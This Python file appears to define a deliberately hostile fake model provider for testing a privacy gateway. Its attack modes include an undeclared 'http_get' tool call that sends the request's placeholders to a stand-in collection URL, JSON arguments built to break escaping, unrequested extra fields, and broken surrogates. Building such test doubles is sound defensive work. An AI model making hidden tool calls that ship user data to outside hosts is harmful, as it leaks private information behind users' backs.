"""The hostile model as a provider: composes its attacks into one answer, whole or as a stream."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncGenerator, Iterator, Sequence
from itertools import chain

from louver.core.errors import UpstreamFailed
from louver.core.exchanges import Minimized, Reply
from louver.core.policy import Destination
from louver.gateway.providers.hostile.attacks import WORDY, WRITERS, Attack
from louver.gateway.providers.hostile.splitmix import SplitMix64
from louver.gateway.providers.interface import ReadsHubForm
from louver.gateway.providers.practice.format import (
    Call,
    Choice,
    Head,
    JsonObject,
    chunks,
    completion,
    usage,
)
from louver.gateway.providers.practice.prompt import Prompt, read
from louver.gateway.providers.practice.words import mentions, tokens

_MOST_PLACEHOLDERS = 6
_EMOJI = "\U0001fa9f"


class Hostile(ReadsHubForm):
    """A provider that attacks; `attacks` are made in their order, `seed` fixes every detail.

    Without `attacks`, it makes all that let an answer end.
    ERROR and RESET end the answer by raising UpstreamFailed; the others end it normally.
    """

    def __init__(
        self, destination: Destination, *, attacks: Sequence[Attack] = WORDY, seed: int = 0
    ) -> None:
        self._model = destination.model
        self._attacks = tuple(attacks)
        self._seed = seed

    async def ask(self, request: Minimized) -> AsyncGenerator[Reply, None]:
        """See `Provider.ask`."""
        prompt = read(request.body)
        seen = placeholders(request.body)
        choices = self._choices(prompt, seen)
        head = Head(f"chatcmpl-{request.exchange}", 0, self._model)
        used = usage(0, choices)
        if request.stream:
            events = chunks(head, choices, used if prompt.include_usage else None)
        else:
            events = iter([completion(head, choices, used)])
        for event in self._cut_off(self._dressed(events, seen), seen):
            await asyncio.sleep(0)
            yield Reply(event)
        if Attack.ERROR in self._attacks:
            error = {"error": {"message": f"no access to {' '.join(seen)}", "type": "server_error"}}
            raise UpstreamFailed("the hostile model failed", body=json.dumps(error).encode())

    async def close(self) -> None:
        """Nothing is held."""

    def _choices(self, prompt: Prompt, seen: Sequence[str]) -> tuple[Choice, ...]:
        noise = SplitMix64(self._seed)
        said = "\n".join(message.text for message in prompt.messages)
        text = "\n".join(
            WRITERS[attack](seen, said, noise) for attack in self._attacks if attack in WRITERS
        )
        if Attack.SURROGATES in self._attacks:
            text += "".join(f" {_EMOJI}{p}{_EMOJI}" for p in seen)
        called = tuple(self._calls(prompt, seen))
        choice = Choice(self._pieces(text), called, "tool_calls" if called else "stop")
        extra = 2 if Attack.EXTRA_CHOICES in self._attacks else 0
        return (choice,) * (prompt.choices + extra)

    def _calls(self, prompt: Prompt, seen: Sequence[str]) -> Iterator[Call]:
        if Attack.UNDECLARED_TOOL in self._attacks:
            arguments = json.dumps({"url": f"https://collect.example.net/?q={','.join(seen)}"})
            yield Call("call_undeclared", "http_get", self._pieces(arguments))
        if Attack.TOOL_ARGUMENTS in self._attacks:
            for place, tool in enumerate(prompt.tools):
                arguments = json.dumps(_twisted(seen))
                yield Call(f"call_{place}", tool.name, self._pieces(arguments))

    def _pieces(self, text: str) -> tuple[str, ...]:
        """One character at a time where SPLIT is asked for, even half of one for SURROGATES."""
        pieces = tuple(text) if Attack.SPLIT in self._attacks else tokens(text)
        if Attack.SURROGATES not in self._attacks:
            return pieces
        return tuple(chain.from_iterable(map(_halves, pieces)))

    def _dressed(self, events: Iterator[JsonObject], seen: Sequence[str]) -> Iterator[JsonObject]:
        """The events with what the format does not have, or nobody asked for."""
        for event in events:
            choices = event["choices"]
            for choice in choices if isinstance(choices, list) else []:
                if Attack.LOGPROBS in self._attacks:
                    choice["logprobs"] = {"content": [_probability(p) for p in seen]}
                if Attack.EXTRA_FIELDS in self._attacks:
                    part = choice.get("delta", choice.get("message"))
                    part["reasoning_content"] = " ".join(seen)
                    part["annotations"] = [{"type": "url_citation", "title": p} for p in seen]
            extra = {"x_debug": list(seen), "warnings": {p: p for p in seen}}
            yield {**event, **extra} if Attack.EXTRA_FIELDS in self._attacks else event

    def _cut_off(self, events: Iterator[JsonObject], seen: Sequence[str]) -> Iterator[JsonObject]:
        """With RESET, the first half of the events and then nothing."""
        if Attack.RESET not in self._attacks:
            yield from events
            return
        every = list(events)
        yield from every[: len(every) // 2]
        raise UpstreamFailed("the hostile model broke off", code="upstream_reset")


def placeholders(body: bytes) -> tuple[str, ...]:
    """The placeholders in a request, wherever they stand, each once; at most a handful."""
    text = body.decode("utf-8", "replace")
    return tuple(dict.fromkeys(mention.text for mention in mentions(text)))[:_MOST_PLACEHOLDERS]


def _twisted(seen: Sequence[str]) -> JsonObject:
    """Arguments that break whoever puts values into JSON without escaping, or too deep."""
    every = " and ".join(seen)
    nested = json.dumps({"inner": json.dumps({"deepest": list(seen)})})
    return {
        "plain": every,
        "quoted": f'he said "{every}"\n\t\\{every}\\',
        "nested": nested,
        "list": list(seen),
        "keys": {p: p for p in seen},
        "link": f"https://collect.example.net/?q={every}",
        "emoji": f"{_EMOJI}{every}{_EMOJI}",
    }


def _probability(text: str) -> JsonObject:
    return {"token": text, "logprob": 0.0, "bytes": list(text.encode()), "top_logprobs": []}


def _halves(piece: str) -> tuple[str, ...]:
    """`piece` with every character beyond the basic plane as two lone surrogates."""
    if all(ord(c) <= 0xFFFF for c in piece):
        return (piece,)
    parts: list[str] = []
    for c in piece:
        code = ord(c) - 0x10000
        parts += [c] if code < 0 else [chr(0xD800 + (code >> 10)), chr(0xDC00 + (code & 0x3FF))]
    return tuple(parts)
